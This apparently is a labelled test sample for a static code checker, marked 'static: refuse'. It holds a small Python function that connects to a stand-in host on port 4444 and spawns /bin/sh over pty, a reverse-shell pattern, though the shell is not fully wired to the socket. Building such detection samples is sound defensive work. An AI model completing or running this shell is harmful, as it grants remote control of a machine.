# category: d26; static: refuse
import pty, socket

def run() -> dict:
    s = socket.create_connection(("192.0.2.1", 4444), 1)
    pty.spawn("/bin/sh", lambda fd: s.recv(10))
    return {}
